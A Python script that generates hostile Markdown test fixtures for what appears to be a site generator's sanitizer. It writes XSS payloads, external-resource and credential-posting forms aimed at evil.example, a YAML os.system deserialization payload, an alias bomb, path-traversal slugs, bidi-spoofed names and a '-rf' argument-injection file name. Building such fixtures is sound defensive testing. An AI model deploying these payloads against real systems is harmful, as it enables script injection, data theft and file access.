#!/usr/bin/env python3
"""Writes the hostile fixture files (run once; the files are committed).
Kept so a reviewer can see every attack in one place and regenerate them.
The large attacks (a 5 MB line, 10,000-deep nesting) are not committed:
tests/hostile/generate_large.py writes them at test time."""
import os

HERE = os.path.dirname(os.path.abspath(__file__))
EN = os.path.join(HERE, "content", "en")

def page(name, body, front="title: {t}\n", raw=False):
    t = name.replace("-", " ")
    data = body if raw else ("---\n" + front.replace("{t}", t) + "---\n" + body)
    if isinstance(data, str):
        data = data.encode("utf-8")
    with open(os.path.join(EN, name + ".md"), "wb") as f:
        f.write(data)

def main():
    os.makedirs(EN, exist_ok=True)
    # --- scripts -------------------------------------------------------------
    page("script-plain", "Text.\n\n<script>alert(1)</script>\n\nMore <script>alert(2)</script> text.\n")
    page("script-spellings", "<ScRiPt>alert(1)</sCrIpT>\n\n<SCRIPT SRC=//evil.example/x.js></SCRIPT>\n\n"
         "<script/xss src=\"https://evil.example/x.js\"></script>\n\n<script\n>alert(1)</script\n>\n\n"
         "a <script type=\"module\">import('//evil.example')</script> b\n")
    page("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>\n\n<<script>script>alert(1)<</script>/script>\n\n"
         "<scr\x00ipt>alert(1)</script>\n")
    page("script-in-svg-math", "<svg><script>alert(1)</script></svg>\n\n<svg onload=alert(1)>\n\n"
         "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>\n\n"
         "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>\n")
    page("script-in-code", "```html\n<script>alert(1)</script>\n```\n\n`<img src=x onerror=alert(1)>`\n\n"
         "    <iframe src=\"https://evil.example\"></iframe>\n")
    page("script-in-comments", "<!--<script>alert(1)</script>-->\n\n<!-- --!><script>alert(1)</script> -->\n\n"
         "<!--[if IE]><script>alert(1)</script><![endif]-->\n\n<!--> <script>alert(1)</script> -->\n\n"
         "x <!-- inline --> <script>alert(3)</script>\n")
    page("script-cdata-pi", "<![CDATA[<script>alert(1)</script>]]>\n\n<?xml version=\"1.0\"?><script>alert(1)</script>\n\n"
         "<!DOCTYPE html><script>alert(1)</script>\n")
    page("script-escaped-text", "&lt;script&gt;alert(1)&lt;/script&gt; and \\<script>alert(1)\\</script>\n\n"
         "&#60;script&#62;alert(1)&#60;/script&#62;\n")
    page("script-in-table", "| a | b |\n|---|---|\n| <script>alert(1)</script> | <style>*{x:url(//evil.example)}</style> |\n"
         "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n")
    page("script-raw-text-elements", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>\n\n"
         "<template><script>alert(1)</script></template>\n\n<xmp><script>alert(1)</script></xmp>\n\n"
         "<textarea><script>alert(1)</script></textarea>\n\n<plaintext><script>alert(1)</script>\n")
    # --- event attributes ----------------------------------------------------
    page("event-attributes", "<img src=x.png onerror=alert(1)>\n\n<body onload=alert(1)>\n\n"
         "<div ONMOUSEOVER=\"alert(1)\">x</div>\n\n<input onfocus=alert(1) autofocus>\n\n"
         "<details open ontoggle=alert(1)><summary>s</summary>x</details>\n\n<p onclick='alert(1)'>p</p>\n")
    page("event-attributes-spacing", "<img src=x/onerror=alert(1)>\n\n<img\tsrc=x\tonerror=alert(1)>\n\n"
         "<a href=x.md\nonclick\n=\nalert(1)>x</a>\n\n<div/onclick=alert(1)>x</div>\n\n"
         "<p \"onclick=alert(1)\">p</p>\n\n<p on\x0bclick=alert(1)>p</p>\n")
    page("event-attributes-allowed-tags", "<kbd onclick=\"alert(1)\">Ctrl</kbd> <abbr title=\"t\" onmouseover=alert(1)>A</abbr>\n\n"
         "<details><summary onclick=alert(1)>s</summary>x</details>\n\n"
         "<table><tr><td onclick=alert(1)>c</td></tr></table>\n\n<sup style=\"x\" onpointerenter=alert(1)>1</sup>\n")
    # --- links ---------------------------------------------------------------
    page("links-javascript-markdown", "[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](javascript&#58;alert(1))\n\n"
         "[d](java%0Ascript:alert(1)) [e](<javascript:alert(1)>) <javascript:alert(1)>\n\n"
         "[f][r] [g](\\javascript:alert(1))\n\n[r]: javascript:alert(1) \"t\"\n")
    page("links-javascript-html", "<a href=\"&#x6A;avascript:alert(1)\">a</a> <a href=\"java&Tab;script:alert(1)\">b</a>\n\n"
         "<a href=\"jav&#x0A;ascript:alert(1)\">c</a> <a href=\"javascript&colon;alert(1)\">d</a>\n\n"
         "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)\">e</a>\n\n"
         "<a href=\" \x01javascript:alert(1)\">f</a> <a href=\"ｊａｖａｓｃｒｉｐｔ:alert(1)\">g</a>\n")
    page("links-data", "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [b](DATA:text/html,x)\n\n"
         "<a href=\"data:text/html,<script>alert(1)</script>\">c</a> <a href=\"&#100;ata:text/html,x\">d</a>\n")
    page("links-other-schemes", "[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](livescript:x) [d](about:blank)\n\n"
         "<a href=\"//evil.example/\">e</a> <a href=\"\\\\evil.example\\share\">f</a> <a href=\"https:evil.example\">g</a>\n\n"
         "<a href=\"ftp://evil.example/\">h</a> <a href=\"https://example.org\" ping=\"https://evil.example/\">i</a>\n")
    page("links-data-images", "![a](data:image/png;base64,iVBORw0KGgo=)\n\n![b](data:image/svg+xml;utf8,<svg onload=alert(1)>)\n")
    page("links-autolinks", "www.example.org https://example.org/?q=<x> <https://example.org/a\"b> someone@example.org\n\n"
         "[t](https://example.org \"title \\\" onmouseover=alert(1)\")\n")
    page("links-markdown-title-quotes", "[a](x.png \"\\\"><script>alert(1)</script>\")\n\n[b](https://example.org '\"onclick=\"alert(1)')\n")
    # --- external resources --------------------------------------------------
    page("external-image-markdown", "![tracker](https://evil.example/t.png)\n")
    page("external-image-protocol-relative", "![tracker](//evil.example/t.png)\n")
    page("external-images-html", "<img src=\"https://evil.example/a.png\">\n\n<img srcset=\"https://evil.example/b.png 2x\" src=\"a.png\">\n\n"
         "<picture><source srcset=\"https://evil.example/c.png\"><img src=\"a.png\"></picture>\n\n"
         "<video poster=\"https://evil.example/p.png\"></video> <audio src=\"https://evil.example/a.mp3\"></audio>\n\n"
         "<input type=image src=\"https://evil.example/i.png\"> <image src=\"HTTPS://evil.example/x.png\">\n\n"
         "<link rel=stylesheet href=\"https://evil.example/x.css\">\n")
    page("external-css-url", "<div style=\"background:url(https://evil.example/x.png)\">a</div>\n\n"
         "<style>@import url(//evil.example/x.css); body{background:url(https://evil.example/y)}</style>\n\n"
         "<span style=\"behavior:url(x.htc)\">b</span> <p style=\"width: expression(alert(1))\">c</p>\n\n"
         "<p style=\"background-image: u\\rl(https://evil.example/z)\">d</p>\n")
    page("frames", "<iframe src=\"https://evil.example\"></iframe>\n\n<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>\n\n"
         "<frameset><frame src=\"https://evil.example\"></frameset>\n\n<portal src=\"https://evil.example\"></portal>\n")
    page("objects", "<object data=\"https://evil.example/x.swf\"><param name=movie value=\"x.swf\"></object>\n\n"
         "<embed src=\"https://evil.example/x.swf\"> <applet code=\"X.class\"></applet>\n")
    page("forms", "<form action=\"https://evil.example/steal\" method=post><input name=password type=password>"
         "<button formaction=\"https://evil.example/2\">Send</button></form>\n\n<isindex action=\"https://evil.example\">\n\n"
         "<textarea name=t>x</textarea> <select><option>o</option></select>\n")
    page("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">\n\n"
         "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">\n\n<meta charset=\"latin1\">\n")
    page("base-and-link", "<base href=\"https://evil.example/\">\n\n<link rel=prefetch href=\"https://evil.example/p\">\n\n"
         "<link rel=dns-prefetch href=\"//evil.example\"> <link rel=icon href=\"https://evil.example/f.ico\">\n")
    # --- YAML ----------------------------------------------------------------
    bomb = "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
    prev = "a"
    for n in "bcdefghi":
        bomb += "%s: &%s [%s]\n" % (n, n, ",".join(["*" + prev] * 9))
        prev = n
    page("yaml-alias-bomb", "Body.\n", front="title: alias bomb\n" + bomb)
    page("yaml-merge-key", "Body.\n", front="base: &b {title: x}\n<<: *b\ntitle: merge\n")
    page("yaml-deep-flow-nesting", "Body.\n", front="title: deep\nx: " + "[" * 200 + "]" * 200 + "\n")
    deep = "title: deep map\n" + "".join("  " * i + "k%d:\n" % i for i in range(60)) + "  " * 60 + "v\n"
    page("yaml-deep-map-nesting", "Body.\n", front=deep)
    page("yaml-tags", "Body.\n", front="title: !!python/object/apply:os.system [\"touch /tmp/waymark-hostile-pwned\"]\n"
         "inc: !include /etc/passwd\nbin: !!binary aGVsbG8=\n")
    page("yaml-duplicate-keys", "Body.\n", front="title: one\ntitle: two\n")
    page("yaml-html-in-values", "Body.\n", front="title: \"<script>alert(1)</script>\"\n"
         "description: '\"><img src=x onerror=alert(1)>'\nsummary: \"</title><script>alert(2)</script>\"\n"
         "tags: [\"<script>\", \"a\\\"b\"]\nreviewed_by: \"<iframe src=//evil.example>\"\n")
    page("yaml-wrong-types", "Body.\n", front="title: [a, b]\ndate: {y: 1}\nweight: .nan\ndraft: maybe\ntoc: 1e999\n")
    page("yaml-huge-numbers", "Body.\n", front="title: numbers\nweight: 1e308\nupdated: 99999-99-99\n")
    # --- Unicode and bytes ---------------------------------------------------
    page("utf8-invalid-body", b"---\ntitle: bad bytes\n---\nA \xff byte, an overlong \xc0\xaf slash, a surrogate \xed\xa0\x80.\n", raw=True)
    page("utf8-invalid-title", b"---\ntitle: \"caf\xe9\"\n---\nBody.\n", raw=True)
    page("utf8-truncated-end", b"---\ntitle: cut\n---\nends mid-character \xe2\x82", raw=True)
    page("bidi-title", "Body with \u202eevil\u202c text.\n", front="title: \"Help \u202egnp.exe\u202c \u2066x\u2069\"\n"
         "description: \"\u202etxt.exe\"\n")
    page("nul-bytes", b"---\ntitle: nul\n---\nA\x00B <scr\x00ipt>alert(1)</script>\n", raw=True)
    page("bom-crlf-cr", b"\xef\xbb\xbf---\r\ntitle: line endings\r\n---\r\nCRLF line\r\nCR only\rline\r\n<script>x</script>\r\n", raw=True)
    page("heading-ids", "## \"><img src=x onerror=alert(1)>\n\n## <script>alert(1)</script>\n\n## main\n\n## top\n\n##\n\n###\n",
         front="title: headings\ntoc: true\n")
    # --- slugs and names -----------------------------------------------------
    page("slug-dotdot", "Body.\n", front="title: slug\nslug: \"../../etc\"\n")
    page("slug-dot", "Body.\n", front="title: slug\nslug: \"..\"\n")
    page("slug-backslash", "Body.\n", front="title: slug\nslug: \"..\\\\..\\\\evil\"\n")
    page("slug-absolute", "Body.\n", front="title: slug\nslug: \"/etc/passwd\"\n")
    page("slug-url-characters", "Body.\n", front="title: slug\nslug: \"a?b#c%2e%2e\"\n")
    page("slug-html", "Body.\n", front="title: slug\nslug: \"\\\"><script>alert(1)</script>\"\n")
    page("file name with spaces", "Body.\n")
    page("quote\"d 'name' <b>&amp", "Body.\n")
    page("-rf --no-preserve-root", "Body.\n")
    page("links-to-hostile-names", "[a](file%20name%20with%20spaces.md) [b](<file name with spaces.md>) [c](../../../etc/passwd) [d](/etc/passwd)\n")

if __name__ == "__main__":
    main()
